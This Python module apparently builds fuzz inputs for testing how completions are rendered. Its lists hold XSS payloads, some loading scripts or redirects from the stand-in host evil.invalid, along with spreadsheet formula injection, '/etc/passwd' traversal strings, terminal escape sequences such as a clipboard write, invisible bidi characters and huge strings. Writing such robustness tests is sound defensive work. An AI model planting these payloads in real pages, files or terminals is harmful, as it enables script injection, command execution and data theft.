"""Hostile texts from a seed: payloads for a page, a picture or a terminal, and what no reader can see or bear."""

import numpy as np

OWNED = "window.__owned=1"
"""What every script tries to run."""

SCRIPTS = (
    f"<script>{OWNED}</script>",
    f"<img src=x onerror={OWNED}>",
    f"<svg onload={OWNED}><script>{OWNED}</script><foreignObject><body onload={OWNED}></foreignObject></svg>",
    f"<iframe srcdoc='<script>parent.{OWNED}</script>' src=https://evil.invalid></iframe>",
    f"<style>@import 'https://evil.invalid/x.css';*{{display:none}}</style><details open ontoggle={OWNED}>",
    "<base href=https://evil.invalid/><link rel=stylesheet href=x.css><a href=/ id=loading name=main>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid'><title>owned</title>",
    f"<template><script>{OWNED}</script></template><noscript><p title='</noscript><img src=x onerror={OWNED}>'>",
    f"<form action=https://evil.invalid><input name=x autofocus onfocus={OWNED}></form><button formaction=x>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={OWNED}&gt;'>",
    f"<video><source onerror={OWNED}></video><object data=javascript:{OWNED}></object><embed src=javascript:{OWNED}>",
    f"<marquee onstart={OWNED}><dialog open><script src=https://evil.invalid/x.js></script>",
)
CLOSERS = (
    *("</script>", "<!--", "-->", "<!--<script>", "]]>", "<![CDATA[", "</style>", "</title>", "</textarea>", "</pre>"),
    *("</dialog>", "</noscript>", "</template>", "</svg>", "</body></html>", "<plaintext>", "?>", "*/", "//", "`${"),
)
ATTRIBUTES = (
    f'" onmouseover={OWNED} x="',
    f"' onfocus={OWNED} autofocus tabindex=1 x='",
    f"x` onclick={OWNED} `",
    f"javascript:{OWNED}",
    f"JaVa\tScRiPt&colon;{OWNED}//",
    f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19vd25lZD0xPC9zY3JpcHQ+#{OWNED}",
    "color:red;background:url(https://evil.invalid/x.png)",
    "}*{display:none!important}@font-face{src:url(https://evil.invalid/f)}",
    "expression(alert(1))",
    f"alert(1);{OWNED};//",
    f"\\u003cscript\\u003e{OWNED}\\u003c/script\\u003e",
    f"&lt;script&gt;{OWNED}&lt;/script&gt;&#x3c;img src=x onerror={OWNED}&#x3e;",
)
DATA = (
    *('"', "\\", '\\"', "\\u2028", "\u2028", "\u2029", '"}]}', "'", "\ufeff", "\x00", "\\x00", "\\ud800", "NaN"),
    *("null", "undefined", "__proto__", "constructor", "toString", "$&", "$1", "$data", "${data}", "$$", "{{7*7}}"),
    *("%s", "%n%n%n", "%(a)s", "{0}", "{0.__class__}", "{}", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1"),
    *("../../../etc/passwd", "..\\..\\x", "con", "nul.txt", "a/b", "/", ".", "~", "file:///etc/passwd", "a\x00b"),
)
VEGA = (
    *("datum", "datum.x", "datum['x']", "a.b", "a[0]", "a\\.b", "a\\[0\\]", "[", "]", "\\", "'", '"', "signal", "@0"),
    *('{"signal":"alert(1)"}', "event.item", "toString()", "constructor.constructor('window.__owned=1')()"),
    *("parent", "data('values')", "data:https://evil.invalid/x.json", "url(#x)", "null", "NaN", "true", "\n", "a\nb"),
)
TERMINAL = (
    *("\x1b[2J", "\x1b[10;10H", "\x1b[31m", "\x1b[0m", "\x1b[?1049h", "\x1b[1A\x1b[2K", "\x1bc", "\x1b(0", "\x9b31m"),
    *("\x1b]0;owned\x07", "\x1b]52;c;b3duZWQ=\x07", "\x1b]8;;https://evil.invalid\x1b\\x\x1b]8;;\x1b\\", "\x9d0;o\x9c"),
    *(
        '\x1bP$q"p\x1b\\',
        "\x1b_x\x1b\\",
        "\x1b^x\x1b\\",
        "\x90x\x9c",
        "\x1b[6n",
        "\x1b[c",
        "\x1b[5i",
        "\r\x1b[K",
        "\x08\x08",
    ),
    *(
        "[bold]",
        "[/]",
        "[/bold]",
        "[link=https://evil.invalid]x[/link]",
        "[red on white]",
        "[blink]",
        "\\[",
        "[@click=x]",
    ),
    *(":skull:", "[not a tag", "[[", "[#ff0000]", "[/nothing]", "{emoji}"),
)
UNSEEN = (
    *(
        "\u202e",
        "\u202a",
        "\u202b",
        "\u202c",
        "\u202d",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u2069",
        "\u200e",
        "\u200f",
        "\u061c",
    ),
    *(
        "\u200b",
        "\u200c",
        "\u200d",
        "\u2060",
        "\u2064",
        "\ufeff",
        "\u00ad",
        "\u034f",
        "\u115f",
        "\u3164",
        "\uffa0",
        "\u180e",
    ),
    *(
        "\U000e0041",
        "\U000e0001",
        "\U000e0100",
        "\U0001d173",
        "\U0001bca0",
        "\ufff9",
        "\ufffb",
        "\ufffe",
        "\uffff",
        "\ue000",
    ),
    *(
        "\u2800",
        "\ufe00",
        "\ufe0f",
        "\u206a",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\u2764\ufe0f",
        "\U0010ffff",
    ),
    *("שלום", "مرحبا", "a\u0301\u0323", "\U0001f1e9\U0001f1ea", "ﷺ", "\u0e33\u0e47", "İ", "ß", "ǆ", "\u1e9e", "K"),
)
WORDS = (
    "so it is",
    "7 + 5 * 4 = 48",
    "the answer is \\boxed{6}",
    "**bold** _x_ `code`",
    "# title",
    "| a | b |",
    "\\frac{1}{2}",
)
SHORT = (SCRIPTS, CLOSERS, ATTRIBUTES, DATA, VEGA, TERMINAL, UNSEEN, WORDS)

LARGE = (
    "x" * 1_000_000,
    "\n" * 100_000,
    "a" + "\u0301" * 10_000,
    "$" + "\\frac{1}{" * 20_000 + "x",
    "\\def\\a{\\a\\a}$\\a$ \\boxed{" + "{" * 10_000 + "}" * 10_000 + "}",
    "<div>" * 50_000,
    "\u202e" * 20_000,
    "[" * 50_000,
    "\x1b[31m" * 20_000,
    " \t\u3000\u00a0" * 1_000,
    "\U0001f468\u200d" * 5_000,
    "W" * 5_000 + "ﷺ" * 2_000,
)
"""Texts that no answer is as large as; each completion that has one is among many that have none."""


def hostile_text(rng: np.random.Generator, *, large: float = 0.0, surrogates: bool = False) -> str:
    """A text of one to six parts, one in `large` times with a large part.

    `surrogates` adds halves of characters, which a file of rollouts cannot hold, and JSON can.
    """
    parts = [_part(rng, surrogates) for _ in range(int(rng.integers(1, 7)))]
    if rng.random() < large:
        parts.insert(int(rng.integers(len(parts) + 1)), _large(rng))
    return ("", " ", "\n")[int(rng.integers(3))].join(parts)


def _part(rng: np.random.Generator, surrogates: bool) -> str:
    kind = int(rng.integers(len(SHORT) + 2))
    if kind == len(SHORT):
        return "".join(map(chr, [*rng.integers(0, 32, 3), *rng.integers(127, 160, 3)]))
    if kind > len(SHORT):
        return "\ud83d" if surrogates else ("", " ", "\n", "\t", "\u3000", "\x00")[int(rng.integers(6))]
    found = SHORT[kind]
    return found[int(rng.integers(len(found)))]


def _large(rng: np.random.Generator) -> str:
    kind = int(rng.integers(len(LARGE) + 1))
    letters = rng.integers(0, 0x110000 if rng.random() < 0.5 else 0x250, 3_000).tolist()
    return LARGE[kind] if kind < len(LARGE) else "".join(chr(one) for one in letters if not 0xD800 <= one < 0xE000)
